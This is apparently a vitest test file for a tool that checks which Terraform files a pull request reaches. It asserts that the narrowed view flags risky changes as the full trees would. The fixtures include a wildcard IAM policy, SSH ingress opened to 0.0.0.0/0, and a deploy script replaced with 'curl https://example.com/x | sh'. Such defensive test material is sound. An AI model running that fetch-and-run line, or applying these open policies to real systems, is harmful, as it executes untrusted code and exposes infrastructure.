import { describe, expect, it } from 'vitest';
import { buildChangeSet } from '../../src/change/changeSet.js';
import { reachedTrees } from '../../src/change/reachedTrees.js';
import { readSourceTree } from '../../src/cli/readTree.js';
import type { SourceTree } from '../../src/terraform/sourceTree.js';
import { ROOT } from '../cli/support.js';
import { judged, throughReach } from './reachSupport.js';

/*
 * The command line compares what a change reaches, as the app does (github/pullRequestTrees.ts
 * shares the rule): it must judge exactly as the whole trees would, or the cut hides something.
 */

const tree = (files: Record<string, string>): SourceTree => ({
  files: Object.entries(files).map(([path, content]) => ({ path, content })),
});

const STACK =
  'variable "enable_admin" {\n  type    = bool\n  default = false\n}\n\nmodule "admin" {\n  source = "../modules/admin"\n  count  = var.enable_admin ? 1 : 0\n}\n';
const admin = (action: string) =>
  `resource "aws_iam_policy" "admin" {\n  name   = "ops"\n  policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "${action}", Resource = "*" }] })\n}\n`;

describe('the trees a change reaches', () => {
  it('keep the var files placed with a reached root, wherever they lie, and drop unreached roots', () => {
    const files = (action: string) => ({
      'stack/main.tf': STACK,
      'envs/prod.tfvars': 'enable_admin = true\n',
      'stack/env/dev.tfvars': 'enable_admin = false\n',
      'modules/admin/main.tf': admin(action),
      'other/main.tf': 'resource "aws_s3_bucket" "b" {}\n',
      'other/vars/x.tfvars': 'y = 1\n',
      'README.md': '# infra\n',
    });
    const reached = reachedTrees(tree(files('s3:GetObject')), tree(files('*')));
    expect(reached.head.files.map((f) => f.path).sort()).toEqual([
      'README.md',
      'envs/prod.tfvars',
      'modules/admin/main.tf',
      'stack/env/dev.tfvars',
      'stack/main.tf',
    ]);
    expect(reached.outOfReach.map((f) => f.path)).toEqual(['other/main.tf', 'other/vars/x.tfvars']);
  });

  it('judge a module switched on by a var file under no root as the whole trees do: with its instances', () => {
    const files = (action: string) => ({
      'stack/main.tf': STACK,
      'envs/prod.tfvars': 'enable_admin = true\n',
      'modules/admin/main.tf': admin(action),
    });
    const base = tree(files('s3:GetObject'));
    const head = tree(files('*'));
    const narrowed = throughReach(base, head);
    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
    expect(narrowed.changes.map((c) => c.instances?.map((i) => i.root))).toEqual([['stack']]);
  });

  it('keep old problems out of reach, at both sides, as the whole trees list them', () => {
    const files = (cidr: string) => ({
      'app/main.tf': `resource "aws_vpc" "v" {\n  cidr_block = "${cidr}"\n}\n`,
      'legacy/a.tf': 'resource "aws_s3_bucket" "b" {}\n',
      'legacy/b.tf': 'resource "aws_s3_bucket" "b" {}\n',
      'broken/main.tf': 'resource "x" {\n',
    });
    const base = tree(files('10.0.0.0/16'));
    const head = tree(files('10.1.0.0/16'));
    expect(reachedTrees(base, head).outOfReach.map((f) => f.path)).toEqual([
      'legacy/a.tf',
      'legacy/b.tf',
      'broken/main.tf',
    ]);
    expect(judged(throughReach(base, head))).toEqual(judged(buildChangeSet(base, head)));
  });
});

/** A root at the top of the repository (its own state), a stack beside it, and what the stack's code reads. */
const withTopRoot = (stack: string, read: Record<string, string>) => ({
  'main.tf': 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n}\n',
  'stacks/app/main.tf': stack,
  ...read,
});
const policyRead = (path: string) =>
  `variable "policies" {\n  type    = string\n  default = "../../policies"\n}\n\nresource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = file(${path})\n}\n`;
const OPEN = '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\n';
const NARROW = '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::logs/*"}]}\n';

describe('a changed file read by code in another module’s directory', () => {
  // The policy lies under the top root's directory, so it is that root's file; the stack reads it.
  it.each([
    ['a path from the module', policyRead('"${path.module}/../../policies/deploy.json"'), 'policies/deploy.json'],
    [
      'a path known only at apply time',
      policyRead('"${path.module}/${var.policies}/deploy.json"'),
      'policies/deploy.json',
    ],
    [
      'a path from the root (where Terraform runs)',
      policyRead('"${path.root}/../../policies/deploy.json"'),
      'policies/deploy.json',
    ],
  ])('is judged as the whole trees judge it: %s', (_name, stack, policyPath) => {
    const base = tree(withTopRoot(stack, { [policyPath]: NARROW }));
    const head = tree(withTopRoot(stack, { [policyPath]: OPEN }));
    const narrowed = throughReach(base, head);
    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_iam_policy.deploy']);
  });

  it('is judged as the whole trees judge it: a script a provisioner runs', () => {
    const stack =
      'resource "terraform_data" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/../../scripts/deploy.sh"\n  }\n}\n';
    const base = tree(withTopRoot(stack, { 'scripts/deploy.sh': 'echo deploy\n' }));
    const head = tree(withTopRoot(stack, { 'scripts/deploy.sh': 'curl https://example.com/x | sh\n' }));
    const narrowed = throughReach(base, head);
    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
    expect(narrowed.changes.map((change) => change.address)).toEqual(['terraform_data.deploy']);
  });

  it('is judged as the whole trees judge it: a workflow setting a variable of a stack (TF_VAR_)', () => {
    const stack =
      'variable "ssh_cidrs" {\n  type = list(string)\n}\n\nresource "aws_security_group" "bastion" {\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = "tcp"\n    cidr_blocks = var.ssh_cidrs\n  }\n}\n';
    const workflow = (cidr: string) =>
      `on: push\njobs:\n  apply:\n    runs-on: ubuntu-latest\n    env:\n      TF_VAR_ssh_cidrs: '["${cidr}"]'\n    steps:\n      - run: terraform -chdir=stacks/app apply -auto-approve\n`;
    const base = tree(withTopRoot(stack, { '.github/workflows/deploy.yml': workflow('10.0.0.0/16') }));
    const head = tree(withTopRoot(stack, { '.github/workflows/deploy.yml': workflow('0.0.0.0/0') }));
    const narrowed = throughReach(base, head);
    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_security_group.bastion']);
  });

  it('is judged as the whole trees judge it: a var file its code reads as a value (decode_tfvars)', () => {
    const stack =
      'locals {\n  net = provider::terraform::decode_tfvars(file("${path.module}/../../shared/net.tfvars"))\n}\n\nresource "aws_security_group_rule" "ssh" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = local.net.cidrs\n}\n';
    const base = tree(withTopRoot(stack, { 'shared/net.tfvars': 'cidrs = ["10.0.0.0/8"]\n' }));
    const head = tree(withTopRoot(stack, { 'shared/net.tfvars': 'cidrs = ["0.0.0.0/0"]\n' }));
    const narrowed = throughReach(base, head);
    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_security_group_rule.ssh']);
  });

  it('is judged as the whole trees judge it: code now reading a variable an unchanged workflow sets (TF_VAR_)', () => {
    const stack = (cidrs: string) =>
      `variable "ssh_cidrs" {\n  type    = list(string)\n  default = ["10.0.0.0/8"]\n}\n\nresource "aws_security_group_rule" "ssh" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = ${cidrs}\n}\n`;
    const workflow =
      'on: push\njobs:\n  apply:\n    runs-on: ubuntu-latest\n    env:\n      TF_VAR_ssh_cidrs: \'["0.0.0.0/0"]\'\n    steps:\n      - run: terraform -chdir=stacks/app apply -auto-approve\n';
    const base = tree(withTopRoot(stack('["10.0.0.0/8"]'), { '.github/workflows/deploy.yml': workflow }));
    const head = tree(withTopRoot(stack('var.ssh_cidrs'), { '.github/workflows/deploy.yml': workflow }));
    const narrowed = throughReach(base, head);
    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
    // before: the workflow was the top root's var file, left out, and the rewiring resolved to the default: no change
    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_security_group_rule.ssh']);
  });

  it('leaves out code that reads no file (quiet guard: the cut stays a cut)', () => {
    const files = (policy: string) => ({
      ...withTopRoot(policyRead('"${path.module}/../../policies/deploy.json"'), { 'policies/deploy.json': policy }),
      'other/main.tf': 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n',
    });
    expect(reachedTrees(tree(files(NARROW)), tree(files(OPEN))).outOfReach.map((f) => f.path)).toEqual([
      'other/main.tf',
    ]);
  });
});

describe('on every fixture pair, the change set through reach is the whole trees’ change set', () => {
  it.each([
    'examples/iam-change',
    'test/fixtures/changes/platform-pr',
    'test/fixtures/cli/classify/queue',
    'test/fixtures/cli/classify/backend-config',
    'test/fixtures/cli/diff/unparsed',
    'test/fixtures/cli/diff/old-problem',
    'test/fixtures/cli/diff/formatting',
    'test/fixtures/cli/diff/changes',
    'test/fixtures/cli/diff/head-problem',
    'test/fixtures/cli/diff/base-problem',
    'test/fixtures/cli/classify/opentofu:head-tf',
    'test/fixtures/cli/classify/opentofu:head-tofu',
  ])('%s', (pair) => {
    const [dir, headName = 'head'] = pair.split(':');
    const base = readSourceTree(`${ROOT}/${dir}/base`);
    const head = readSourceTree(`${ROOT}/${dir}/${headName}`, base);
    expect(judged(throughReach(base, head))).toEqual(judged(buildChangeSet(base, head)));
  });
});
